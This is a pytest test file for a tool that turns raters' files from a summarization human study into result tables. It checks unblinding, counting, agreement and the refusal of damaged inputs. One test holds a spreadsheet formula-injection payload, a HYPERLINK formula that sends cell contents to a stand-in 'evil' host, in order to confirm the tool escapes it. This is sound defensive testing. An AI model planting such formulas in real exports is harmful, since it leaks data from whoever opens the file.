"""From raters' files to the tables: unblinded, complete, tested; what is wrong with a file is said."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from study_files import make_study, prefers_full, ratings_of, write_ratings

from seqpre.common.errors import ConfigError
from seqpre.human_study import analyse
from seqpre.human_study.ratings import Key, Mark, Ratings
from seqpre.human_study.tables import agreement_table, repetition_table, score_table
from seqpre.report.human_counts import (
    Preference,
    Repetition,
    count_preference,
    count_repetition,
    published_human_study,
    read_human_study,
)
from seqpre.report.published import load_published

PUBLISHED = Path(__file__).parents[3] / "workflow/published.tsv"


def run(folder: Path, *ratings: Path, more: tuple[str, ...] = ()) -> None:
    analyse.main([*map(str, ratings), *(["--key", str(folder / "key.json")] if ratings else []),
                  "--published", str(PUBLISHED), "--output-dir", str(folder / "tables"), *more])  # fmt: skip


def table(folder: Path, name: str) -> dict[str, dict[str, str]]:
    """Return a written table, its rows by their first cell."""
    with (folder / f"tables/{name}.csv").open(encoding="utf-8") as file:
        return {next(iter(row.values())): row for row in csv.DictReader(file)}


def test_the_published_counts_give_the_published_conclusions(tmp_path: Path) -> None:
    run(tmp_path)
    (scores,), (repetition,) = table(tmp_path, "table_4").values(), table(tmp_path, "table_5").values()
    assert [int(scores[cell]) for cell in ("documents", "baseline_higher", "equal", "system_higher")] == [
        200,
        29,
        88,
        83,
    ]
    assert float(scores["p_sign"]) < 1e-4
    assert scores["conclusion"] == "P rated higher"
    cells = ("neither", "baseline_only", "system_only", "both")
    assert [int(repetition[cell]) for cell in cells] == [67, 65, 24, 44]
    assert float(repetition["p_exact"]) < 1e-4
    assert float(repetition["p_chi2"]) < 1e-4
    assert repetition["conclusion"] == "NP repeats more"
    assert (float(repetition["baseline_share"]), float(repetition["system_share"])) == (54.5, 34.0)
    assert not (tmp_path / "tables/agreement.md").exists()


def test_one_raters_scores_are_unblinded_and_counted(tmp_path: Path) -> None:
    key = make_study(tmp_path)
    run(tmp_path, write_ratings(tmp_path, "anna", prefers_full))
    lines = [item["line"] for item in json.loads((tmp_path / "key.json").read_text())["items"]]
    equal = sum(line % 3 == 0 for line in lines)
    anna = table(tmp_path, "table_4")["anna"]
    assert (int(anna["baseline_higher"]), int(anna["equal"]), int(anna["system_higher"])) == (0, equal, 12 - equal)
    assert anna["conclusion"] == "full rated higher"
    repetition = table(tmp_path, "table_5")
    assert int(repetition["anna"]["baseline_only"]) == 12
    assert int(repetition["automatic, documents of the page"]["baseline_only"]) == 12
    assert int(repetition["automatic, all documents"]["baseline_only"]) == 30
    assert table(tmp_path, "agreement")["raters' majority and automatic: an output repeats"]["alpha"] == "1.0"
    assert key.page in (tmp_path / "tables/table_4.md").read_text()
    assert {path.suffix for path in (tmp_path / "tables").iterdir()} == {".csv", ".md", ".tex"}


def test_a_rater_whose_name_is_a_formula_stays_text_in_a_spreadsheet(tmp_path: Path) -> None:
    make_study(tmp_path)
    name = '=HYPERLINK("http://evil/?"&A1,"x")'
    run(tmp_path, write_ratings(tmp_path, "evil", prefers_full, {"rater": f" {name}\n"}))
    for number in (4, 5):
        assert f"'{name}" in table(tmp_path, f"table_{number}")
    assert f"| {name} " in (tmp_path / "tables/table_4.md").read_text()
    assert read_human_study(tmp_path / "tables") is not None


def key_of(items: int, shown: tuple[str, str] = ("full", "none")) -> Key:
    nothing = [[False, False]] * items
    return Key(Path("k"), "p", "full", "none", 1, [shown] * items, nothing, Repetition(9, 0, 0, 0),
               {"documents": 9, "repeating": 0})  # fmt: skip


def rated(rater: str, *scores: tuple[int, int], repeats: tuple[bool, bool] = (False, False)) -> Ratings:
    marks = {place: (Mark(one, repeats[0]), Mark(other, repeats[1])) for place, (one, other) in enumerate(scores)}
    return Ratings(Path(f"{rater}.json"), rater, marks, [])


def test_several_raters_count_once_a_document() -> None:
    raters = [rated("a", (5, 1), (3, 3), (2, 4)), rated("b", (4, 3), (3, 2), (5, 2))]
    rows = {row["raters"].text: row for row in score_table(Preference(1, 1, 1), key_of(3), raters).rows}
    everybody = rows["all raters"]
    # Means: 4.5 and 2, 3 and 2.5, 3.5 and 3: the full system is ahead in all three.
    assert [everybody[cell].text for cell in ("documents", "baseline_higher", "equal", "system_higher")] == list("3003")
    assert everybody["mean_system"].text == "3.67"


def test_an_output_repeats_if_more_than_half_of_the_raters_say_so() -> None:
    def cells(*marks: tuple[bool, bool]) -> list[str]:
        raters = [rated(name, (3, 3), repeats=mark) for name, mark in zip("abc", marks, strict=False)]
        rows = {row["raters"].text: row for row in repetition_table(Repetition(1, 1, 1, 1), key_of(1), raters).rows}
        return [rows["all raters"][cell].text for cell in ("neither", "baseline_only", "system_only", "both")]

    assert cells((True, False), (False, True)) == ["1", "0", "0", "0"]
    assert cells((True, False), (True, True), (False, True)) == ["0", "0", "0", "1"]
    assert cells((False, True), (False, True), (True, False)) == ["0", "1", "0", "0"]


def test_raters_who_agree_have_alpha_1() -> None:
    scores = [(5, 1), (3, 3), (2, 4)]
    rows = {
        row["what"].text: row for row in agreement_table(key_of(3), [rated("a", *scores), rated("b", *scores)]).rows
    }
    assert rows["score of an output"]["alpha"].text == rows["which output is better, or equal"]["alpha"].text == "1.00"
    assert rows["an output repeats"]["alpha"].text == "-"  # nobody says so: nothing to agree on
    assert rows["score of an output"]["compared"].text == "6"


def test_a_key_puts_what_was_shown_second_first_where_the_baseline_was_shown_first() -> None:
    assert key_of(1, ("none", "full")).unblind(0, ("of none", "of full")) == ("of full", "of none")
    assert key_of(1, ("full", "none")).unblind(0, ("of full", "of none")) == ("of full", "of none")


def test_pairs_are_counted_by_their_difference() -> None:
    assert count_preference([(5, 1), (1, 2), (3, 3), (2, 1)]) == Preference(1, 1, 2)
    assert count_repetition([(True, False), (True, True), (False, False), (False, True), (False, True)]) == Repetition(
        neither=1, baseline_only=2, system_only=1, both=1
    )


def test_counts_are_those_of_the_study_that_has_them_and_of_several_the_one_named() -> None:
    numbers = load_published(PUBLISHED)
    other = [replace(row, study="another", printed="7") for row in numbers if row.metric == "count"]
    assert published_human_study(other) == (Preference(7, 7, 7), Repetition(7, 7, 7, 7))
    assert published_human_study([*other, *numbers], "another").scores == Preference(7, 7, 7)
    with pytest.raises(ConfigError, match=r"--study is ''; name one .*: ramachandran-summarization, another"):
        published_human_study([*numbers, *other])
    with pytest.raises(ConfigError, match=r"--study is 'none'; name one .*: ramachandran-summarization"):
        published_human_study(numbers, "none")


# ------------------------------------------------------------------------------------------------------------ bad input


def refusal(folder: Path, capsys: pytest.CaptureFixture[str], *ratings: Path) -> str:
    with pytest.raises(SystemExit) as stopped:
        run(folder, *ratings)
    assert stopped.value.code == 2
    assert not (folder / "tables").exists()
    return capsys.readouterr().err


def unfinished(line: int, system: str) -> dict[str, Any]:
    return prefers_full(line, system) | ({"score": None} if line % 5 == 0 and system == "full" else {})


def test_unfinished_ratings_are_refused_or_left_out_and_reported(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    make_study(tmp_path)
    lines = [item["line"] for item in json.loads((tmp_path / "key.json").read_text())["items"]]
    missing = [place for place, line in enumerate(lines, start=1) if line % 5 == 0]
    assert missing
    path = write_ratings(tmp_path, "ben", unfinished)
    numbers = ", ".join(map(str, missing))
    assert f"ben has not rated {len(missing)} of 12 items ({numbers})" in refusal(tmp_path, capsys, path)
    run(tmp_path, path, more=("--skip-unfinished",))
    assert table(tmp_path, "table_4")["ben"]["documents"] == str(12 - len(missing))
    assert f"{len(missing)} not rated and left out" in (tmp_path / "tables/table_4.md").read_text()


def test_an_item_that_the_file_lacks_is_unfinished(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    make_study(tmp_path)
    entries = ratings_of(tmp_path, "ben", prefers_full)["ratings"]
    path = write_ratings(tmp_path, "ben", prefers_full, {"ratings": entries[:4] + entries[5:]})
    assert "has not rated 1 of 12 items (5)" in refusal(tmp_path, capsys, path)


def test_only_documents_that_all_have_rated_are_combined(tmp_path: Path) -> None:
    make_study(tmp_path)
    paths = [write_ratings(tmp_path, "anna", prefers_full), write_ratings(tmp_path, "ben", unfinished)]
    run(tmp_path, *paths, more=("--skip-unfinished",))
    rows = table(tmp_path, "table_4")
    assert rows["anna"]["documents"] == "12"
    assert rows["all raters"]["documents"] == rows["ben"]["documents"] != "12"


def test_two_files_of_one_rater_are_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    make_study(tmp_path)
    first = write_ratings(tmp_path, "anna", prefers_full)
    second = write_ratings(tmp_path, "again", prefers_full, {"rater": " ANNA "})
    assert "are both by the rater 'ANNA'; give one of them" in refusal(tmp_path, capsys, first, second)


def test_ratings_of_other_outputs_are_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    old = make_study(tmp_path)
    path = write_ratings(tmp_path, "anna", prefers_full)
    (tmp_path / "key.json").unlink()
    new = make_study(tmp_path, "--seed", "9")
    message = refusal(tmp_path, capsys, path)
    assert f"these ratings are of the page {old.page}" in message
    assert f"is the key of {new.page}" in message


def test_a_key_whose_items_name_other_systems_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    make_study(tmp_path)
    path = write_ratings(tmp_path, "anna", prefers_full)
    key = json.loads((tmp_path / "key.json").read_text())
    (tmp_path / "key.json").write_text(json.dumps(key | {"system": "PoDA"}))  # renamed here, but not in the items
    message = refusal(tmp_path, capsys, path)
    assert "key.json: item 1: `shown` is ['" in message
    assert "damaged" not in message
    (tmp_path / "key.json").write_text(json.dumps(key | {"items": [{**key["items"][0], "repeats": [True, None]}]}))
    assert "key.json: damaged (TypeError" in refusal(tmp_path, capsys, path)


def changed(place: int, value: Any) -> Callable[[dict[str, Any]], None]:
    def change(content: dict[str, Any]) -> None:
        content["ratings"][place] = value

    return change


def score(value: Any) -> Callable[[dict[str, Any]], None]:
    return changed(2, {"item": 3, "outputs": [{"score": value, "repeats": False}, {"score": 2, "repeats": True}]})


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (score(6), "item 3: score is 6, not one of 1 to 5"),
        (score(0), "score is 0"),
        (score("4"), "score is '4'"),
        (score(3.5), "score is 3.5"),
        (score(True), "score is True"),
        (changed(2, {"item": 3, "outputs": [{"score": 1, "repeats": False}]}), "item 3 has not two outputs"),
        (changed(2, {"item": 3, "outputs": [{"score": 1}, {"score": 2, "repeats": True}]}), "`repeats` is None"),
        (changed(2, {"item": 13, "outputs": []}), "item 13 is not one of the page's 12"),
        (changed(2, {"item": True, "outputs": []}), "item True is not one of the page's 12"),
        (changed(2, ["3"]), "item None is not one of the page's 12"),
        (lambda content: content["ratings"].append(content["ratings"][0]), "item 1 is there twice"),
        (lambda content: content.update(ratings={}), "no list `ratings`"),
        (lambda content: content.update(rater="  "), "no rater"),
        (lambda content: content.update(format="other"), "not ratings that a page exported"),
    ],
)
def test_a_damaged_file_is_refused_by_name_and_item(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], change: Callable[[dict[str, Any]], None], message: str
) -> None:
    make_study(tmp_path)
    content = ratings_of(tmp_path, "anna", prefers_full)
    change(content)
    path = tmp_path / "damaged.json"
    path.write_text(json.dumps(content), encoding="utf-8")
    error = refusal(tmp_path, capsys, path)
    assert message in error
    assert "damaged.json" in error


@pytest.mark.parametrize("text", ["", "[1, 2]", '{"format": "seqpre', "\x00", "[" * 100_000])
def test_a_file_of_something_else_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str], text: str) -> None:
    make_study(tmp_path)
    path = tmp_path / "else.json"
    path.write_text(text, encoding="utf-8")
    assert "else.json: not " in refusal(tmp_path, capsys, path)


def test_ratings_without_a_key_are_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    make_study(tmp_path)
    ratings = str(write_ratings(tmp_path, "a", prefers_full))
    with pytest.raises(SystemExit):
        analyse.main([ratings, "--published", str(PUBLISHED), "--output-dir", str(tmp_path / "tables")])
    assert "without --key" in capsys.readouterr().err


def test_a_key_alone_gives_what_is_counted_automatically(tmp_path: Path) -> None:
    make_study(tmp_path)
    tables = tmp_path / "tables"
    analyse.main(["--key", str(tmp_path / "key.json"), "--published", str(PUBLISHED), "--output-dir", str(tables)])
    with (tables / "table_5.csv").open(encoding="utf-8", newline="") as file:
        names = [row["raters"] for row in csv.DictReader(file)]
    assert names == [
        "published: without and with pretraining",
        "automatic, documents of the page",
        "automatic, all documents",
    ]
    assert not (tables / "agreement.md").exists()
    assert read_human_study(tables) is None
